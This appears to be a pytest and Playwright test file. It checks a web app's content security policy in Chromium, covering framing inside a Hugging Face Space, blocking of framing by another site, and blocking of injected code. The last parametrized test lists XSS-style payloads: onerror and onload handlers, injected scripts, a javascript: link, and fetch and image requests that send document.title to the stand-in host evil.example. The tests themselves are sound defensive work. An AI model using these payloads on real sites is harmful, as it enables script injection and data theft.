"""The content security policy in a real Chromium: the page works under it, also in a Space's frame; what is smuggled in
does not run."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, expect, sync_playwright

from .conftest import PASSWORD, Server, running
from .visiting import CHROMIUM, NEWS, SIZES, SWITCHES, Open, Visit, pytestmark, visit

__all__ = ["pytestmark", "visit"]
LISTEN = """window.broken = [];
addEventListener("securitypolicyviolation",
                 e => window.broken.push(`${e.effectiveDirective} ${e.blockedURI}`), true);"""
HUB = "https://huggingface.co/spaces/someone/adgen"


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    """A public site may frame this machine's app here: Chromium would ask the user first, as no Space makes it do."""
    assert CHROMIUM, "ADGEN_REQUIRE_BROWSER is set, and there is no Chromium"
    with sync_playwright() as driver:
        browser = driver.chromium.launch(executable_path=CHROMIUM, args=[
            *SWITCHES,
            "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessChecks"])
        yield browser
        browser.close()


def watched(open_page: Open, size: str = "desktop") -> Visit:
    """A page that notes every breach of the policy."""
    one = open_page(size)
    one.page.add_init_script(LISTEN)
    return one


def breaches(page: Page) -> list[str]:
    found: list[str] = page.evaluate("window.broken")
    return found


def test_the_page_makes_an_ad_without_a_breach(server: Server, visit: Open) -> None:
    one = watched(visit)
    one.sign_up_by_hand(server)
    one.make()
    for name in ("ads", "shops", "campaigns", "settings", "create"):
        one.go(name)
        expect(one.page.locator(f"#page-{name}")).to_be_visible()
    assert one.refused == [] and breaches(one.page) == []
    one.page.goto(f"{server.url}/docs")
    expect(one.page.locator(".opblock-tag").first).to_be_visible()
    assert breaches(one.page) == []


@pytest.fixture(scope="module")
def space(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    with running(tmp_path_factory.mktemp("space") / "data", SPACE_ID="someone/adgen") as one:
        yield one


def test_in_a_spaces_frame_it_signs_up_and_makes_an_ad(space: Server, visit: Open) -> None:
    one = watched(visit)
    frame_page = f"<!doctype html><iframe id=app width=1200 height=800 src='{space.url}/'></iframe>"
    one.page.route("https://huggingface.co/**", lambda route: route.fulfill(
        status=200, content_type="text/html", body=frame_page))
    one.page.goto(HUB)
    app = one.page.frame_locator("#app")
    app.get_by_role("button", name="무료로 시작하기").click()
    app.locator("#welcome").get_by_label("가게 이름").fill("달무리 커피")
    app.locator("#welcome").get_by_label("업종").select_option("cafe")
    app.locator("#welcome").get_by_label("이메일").fill("framed@example.com")
    app.locator("#welcome").get_by_label("비밀번호", exact=True).fill(PASSWORD)
    app.get_by_label("동의하고 시작할게요").check()
    app.get_by_role("button", name="가입하고 광고 만들기").click()
    expect(app.get_by_label("알릴 내용", exact=True)).to_be_visible()
    app.get_by_label("알릴 내용", exact=True).fill(NEWS)
    inner = next(frame for frame in one.page.frames if frame.url.startswith(space.url))
    if inner.evaluate("document.documentElement.dataset.step") == "form":
        app.locator("#go-make").click()
    expect(app.locator("#looks .look[role=radio]")).to_have_count(4)
    app.locator("#go-finish").click()
    expect(app.locator("#result .ad figure img").first).to_be_visible()
    assert inner.evaluate("window.broken") == []


@pytest.mark.parametrize("kind", ["own", "space"])
def test_another_site_may_not_frame_it(request: pytest.FixtureRequest, visit: Open, kind: str) -> None:
    app: Server = request.getfixturevalue("space" if kind == "space" else "server")
    one = visit("desktop")
    one.page.route("https://evil.example/**", lambda route: route.fulfill(
        status=200, content_type="text/html", body=f"<!doctype html><iframe src='{app.url}/'></iframe>"))
    with one.page.expect_event("console", lambda told: "frame-ancestors" in told.text or "X-Frame" in told.text):
        one.page.goto("https://evil.example/")
    assert not [frame for frame in one.page.frames if frame.url.startswith(app.url)]


@pytest.mark.parametrize(("smuggled", "blocked"), [
    ("""document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.ran = 1'>")""", "script-src-attr"),
    ("""document.body.insertAdjacentHTML("beforeend", "<svg onload='window.ran = 1'></svg>")""", "script-src-attr"),
    ("""const s = document.createElement("script"); s.textContent = "window.ran = 1"; document.body.append(s)""",
     "script-src-elem"),
    ("""const s = document.createElement("script"); s.src = "https://evil.example/x.js"; document.body.append(s)""",
     "script-src-elem"),
    ("""const a = document.createElement("a"); a.href = "javascript:window.ran = 1"; document.body.append(a);
     a.click()""", "script-src-elem"),
    ("""fetch("https://evil.example/?" + document.title).catch(() => 0)""", "connect-src"),
    ("""new Image().src = "https://evil.example/?" + document.title""", "img-src"),
    ("""document.body.insertAdjacentHTML("beforeend", "<iframe src='https://evil.example/'></iframe>")""", "frame-src"),
    ("""document.body.insertAdjacentHTML("beforeend", "<object data='https://evil.example/x'></object>")""",
     "object-src"),
    ("""document.body.insertAdjacentHTML("beforeend", "<form id=f action='https://evil.example/'></form>");
     document.getElementById("f").submit()""", "form-action"),
])
def test_what_is_smuggled_into_the_page_does_not_run(server: Server, smuggled_page: Visit, smuggled: str,
                                                     blocked: str) -> None:
    page = smuggled_page.page
    page.evaluate("window.broken = []")
    page.evaluate(f"() => {{ {smuggled} }}")
    page.wait_for_function("window.broken.length > 0")
    assert [one for one in breaches(page) if one.startswith(blocked)], breaches(page)
    assert page.evaluate("window.ran") is None


@pytest.fixture(scope="module")
def smuggled_page(server: Server, chromium: Browser) -> Iterator[Visit]:
    context = chromium.new_context(locale="ko-KR", **SIZES["desktop"])
    one = Visit(context)
    one.page.add_init_script(LISTEN)
    one.page.goto(server.url)
    expect(one.page.get_by_role("button", name="무료로 시작하기")).to_be_visible()
    yield one
    context.close()
